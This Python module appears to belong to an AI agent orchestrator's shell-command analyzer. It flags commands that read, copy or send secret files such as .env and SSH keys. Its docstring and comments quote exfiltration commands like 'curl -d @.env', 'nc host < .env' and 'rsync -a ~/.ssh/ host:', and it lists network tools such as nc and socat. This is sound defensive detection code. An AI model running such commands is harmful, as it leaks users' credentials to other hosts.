"""Secret reads and exfiltration in shell commands: the analyzer's rules, kept out of the main rule tables.

:mod:`orchestrator.shell.dispatch` calls :func:`check_argv` for every simple command and the walker calls
:func:`redirect_in` for every ``< FILE`` redirection; they record ``(path, pattern, how)`` hits in the accumulator and tag
``ShellAnalysis.risks`` with ``secret-read`` or ``exfiltration``. ``how`` is ``read`` (the content reaches the
transcript: ``cat``, ``base64``, ``grep``, ``git diff``...), ``copy`` (into a place an agent can read: ``cp``,
``mv``, ``ln``, ``tar``, ``git add``) or ``send`` (to another host: ``curl -d @.env``, ``scp key host:``,
``nc host < .env``).

The rules are deliberately *inclusive*: any program that is handed a secret path as an argument is taken to read
it, except a short list of programs that only look at names or metadata (``ls``, ``stat``, ``test``, ``rm``,
``chmod``, ``echo``...). Option values that load a secret into an environment rather than print it (``source``,
``docker --env-file``, ``ssh -i``) are not counted: see docs/security.md. Inline interpreter code (``python -c``,
``node -e``, a heredoc fed to ``python -``) is scanned for quoted secret paths, best effort.
"""

from __future__ import annotations

import re
from typing import Any

#: programs that look only at names or metadata, print their arguments, or take paths they do not read
_NOT_READING = frozenset("""ls stat test [ [[ touch rm unlink shred mkdir rmdir chmod chown chgrp chattr lsattr echo
printf which type command hash realpath readlink dirname basename export unset cd pushd popd source . declare local
readonly set true false exit return alias unalias trap wait jobs kill umask getfacl setfacl truncate direnv
dotenv git-crypt sops ansible-vault du df tree file wc tee""".split())
#: programs whose last positional argument (or ``-t DIR``) is where they copy *to*: writing a secret's name is not
#: reading one (`cp .env.example .env`), and a copy that stays under a secret name (`mv .env .env.bak`) leaks nothing
_DEST_LAST = frozenset("cp mv ln install".split())
#: programs that send their input or named files to another host
_SENDERS = frozenset("""curl wget nc ncat netcat socat scp sftp rsync ssh telnet ftp lftp http https xh httpie
aws gsutil gcloud az gh glab mail mailx sendmail mutt rclone s3cmd azcopy openssl""".split())
#: programs that copy or pack files into another (readable) place
_COPIERS = frozenset("""cp mv ln install tar zip 7z 7za gzip bzip2 xz zstd lz4 dd cpio pax ditto rsync
git""".split())
#: programs whose first positional argument is a pattern or script, not a file (unless -e/-f gives it)
_PATTERN_FIRST = frozenset("grep egrep fgrep rg ag ack sed awk gawk mawk nawk jq yq".split())
_PATTERN_OPTS = frozenset("-e --regexp -f --file --expression --script -F".split())
#: option values that load a secret rather than print it (see the module docstring): everywhere, and per program
_LOADING_OPTS = frozenset("--env-file".split())
_LOADING_BY_PROG = {"ssh": frozenset("-i -F".split()), "scp": frozenset("-i -F".split()),
                    "sftp": frozenset("-i -F".split()), "ssh-add": frozenset(), "git": frozenset()}
#: git subcommands that take a secret's name without reading or staging its content
_GIT_NAMES_ONLY = frozenset("rm check-ignore ls-files status check-attr update-index restore clean".split())
_INTERPRETERS = re.compile(r"^(python[0-9.]*|pypy[0-9.]*|node|nodejs|deno|bun|perl|ruby|php|lua)$")
_QUOTED = re.compile(r"""["']([^"'\n]{1,300})["']""")
#: a secret (named in a URL-ish `@file`, `name=@file`, `--opt=file`, `if=file`) inside one word
_AT_FILE = re.compile(r"(?:^|[=;])@([^;]+)")


def _candidates(text: str) -> list[str]:
    """The path-like parts of one argument word."""
    out = []
    for m in _AT_FILE.finditer(text):
        out.append(m.group(1))
    if text.startswith("-"):
        if "=" in text:
            out.append(text.split("=", 1)[1].lstrip("@"))
        return out
    if "=" in text and not text.startswith(("/", "~", ".")):
        out.append(text.rsplit("=", 1)[1].lstrip("@"))  # dd if=.env, curl -F file=@.env
    out.append(text)
    return out


def _word_text(w: Any) -> str | None:
    """A word's text if it can be judged: literal, or ``$HOME/...``/``~/...`` (the rest literal)."""
    text = w.text
    if not w.dyn:
        return text
    if re.fullmatch(r"(\$HOME|\$\{HOME\})/[^$`*?\[]*", text):
        return text
    return None


def _how(name: str, args: list[Any]) -> str:
    if name in _SENDERS:
        if name == "rsync" and not any(":" in a.text for a in args if not a.text.startswith("-")):
            return "copy"
        if name in ("aws", "gsutil", "gcloud", "az") and not any("://" in a.text for a in args):
            return "read"
        return "send"
    if name == "git":
        sub = next((a.text for a in args if not a.text.startswith("-")), "")
        return "copy" if sub in ("add", "commit", "stash", "archive", "mv", "bundle", "notes") else "read"
    if name in _COPIERS:
        return "copy"
    return "read"


#: relative paths in a command are judged as if its cwd were the workspace root (the analyzer does not know
#: the root; the pipeline's own checks of file tools do)
_ROOT = "/\x00workspace"
_VERBS = {"send": "sends", "copy": "copies", "read": "reads"}


def _hit(acc: Any, text: str, how: str) -> bool:
    m = acc.secrets
    for cand in _candidates(text):
        if not cand or cand.startswith(("http://", "https://")):
            continue
        pattern = m.match(cand, _ROOT, _ROOT)
        if pattern is not None:
            if len(acc.secret_hits) < 16:
                acc.secret_hits.append((cand, pattern, how))
            verb = _VERBS[how]
            # the kind stays what it was (reading is not mutating); the secrets pre-hook refuses on the risk
            reason = (0, f"{verb} secret {cand} (matches {pattern!r})")
            if reason not in acc.reasons and len(acc.reasons) < 32:
                acc.reasons.append(reason)
            acc.risks.add("secret-read")
            if how == "send":
                acc.risks.add("exfiltration")
            return True
        if cand.startswith(("~", "$HOME", "${HOME}", "/")) or cand in (".", ".."):
            # a directory that holds home credentials (`tar czf b.tgz ~`, `rsync -a ~/.ssh/ host:`)
            pattern = m.holds_secrets(cand, _ROOT, _ROOT) if not cand.startswith("$") else \
                m.holds_secrets("~" + cand.split("}", 1)[-1].split("HOME", 1)[-1], _ROOT, _ROOT)
            if pattern is not None and cand.rstrip("/") not in ("/", ""):
                acc.secret_hits.append((cand, pattern, how))
                acc.reasons.append((0, f"{_VERBS[how]} a directory holding secrets: {cand} (matches {pattern!r})"))
                acc.risks.add("secret-read")
                if how == "send":
                    acc.risks.add("exfiltration")
                return True
    return False


def check_argv(run: Any) -> None:
    """Record the secrets that one simple command (``run.name`` with ``run.args``) reads, copies or sends."""
    acc = run.acc
    if getattr(acc, "secrets", None) is None:
        return
    name = run.name
    args = run.args
    if name in _SENDERS and acc.secret_hits:
        # `cat .env | nc host 80`, `curl -d "$(cat .env)" ...`: a secret read earlier in the command is sent
        acc.risks.add("exfiltration")
        acc.secret_hits.append((acc.secret_hits[0][0], acc.secret_hits[0][1], "send"))
    if name in _NOT_READING or name == "ssh":  # ssh sends only its stdin; its other words run remotely
        return
    from orchestrator.shell.programs import _WRAPPERS  # the wrapped command is analyzed on its own

    if name in _WRAPPERS:
        return
    if _INTERPRETERS.match(name):
        _interpreter_code(run)
    if name == "find" and not any(a.text in ("-exec", "-execdir", "-ok", "-okdir") for a in args):
        return  # `find . -name .env` lists names
    how = _how(name, args)
    texts = [a.text for a in args]
    skip_first = name in _PATTERN_FIRST and not any(t.split("=", 1)[0] in _PATTERN_OPTS for t in texts)
    if name == "git":
        sub = next((t for t in texts if not t.startswith("-")), "")
        if sub in _GIT_NAMES_ONLY:
            return
    loading = _LOADING_OPTS | _LOADING_BY_PROG.get(name, frozenset())
    skip: set[int] = set()
    if name in _DEST_LAST or (name == "rsync" and how == "copy"):
        dest = _destination(args)
        if dest is not None:
            skip.add(dest)
            dest_text = _word_text(args[dest])
            if dest_text is not None and acc.secrets.match(dest_text, _ROOT, _ROOT) is not None:
                return  # the copy keeps a secret's name: it stays protected
    seen_pos = False
    prev = ""
    for k, a in enumerate(args):
        text = _word_text(a)
        cur_prev, prev = prev, a.text
        if text is None or k in skip:
            continue
        if name == "dd" and text.startswith("of="):
            continue  # dd writes there
        if cur_prev in loading or text.split("=", 1)[0] in loading:
            continue
        if not text.startswith("-"):
            if skip_first and not seen_pos and cur_prev not in ("-g", "--glob", "--include", "-t", "--type"):
                seen_pos = True
                continue
            seen_pos = True
            if name in ("scp", "rsync", "sftp") and re.match(r"^[^/]*:", text):
                continue  # a remote path: not this machine's file
            if name == "git" and ":" in text:
                text = text.split(":", 1)[1]  # git show HEAD:.env
        if _hit(acc, text, how):
            if how != "send":
                return


def _destination(args: list[Any]) -> int | None:
    """Index of the copy destination of cp/mv/ln/install/rsync: ``-t DIR`` / ``--target-directory=DIR``, else the
    last positional argument when there are at least two."""
    pos: list[int] = []
    k = 0
    while k < len(args):
        t = args[k].text
        if t in ("-t", "--target-directory") and k + 1 < len(args):
            return k + 1
        if t.startswith("--target-directory="):
            return None  # the value is inside the word: nothing positional to skip
        if t == "--":
            pos.extend(range(k + 1, len(args)))
            break
        if not t.startswith("-") or t == "-":
            pos.append(k)
        k += 1
    return pos[-1] if len(pos) >= 2 else None


def redirect_in(acc: Any, w: Any) -> None:
    """``cmd < FILE``: the command reads FILE."""
    if getattr(acc, "secrets", None) is None:
        return
    text = _word_text(w)
    if text is not None:
        _hit(acc, text, "read")


def _interpreter_code(run: Any) -> None:
    """Best effort: quoted secret paths in inline code (``-c``/``-e``) or a heredoc fed to the interpreter."""
    texts = [a.text for a in run.args]
    code = [t for k, t in enumerate(texts) if k > 0 and texts[k - 1] in ("-c", "-e", "-E", "--eval", "-p", "-r")]
    if run.ctx.stdin:
        code.append(run.ctx.stdin)
    for body in code:
        for m in _QUOTED.finditer(body):
            if _hit(run.acc, m.group(1), "read"):
                return
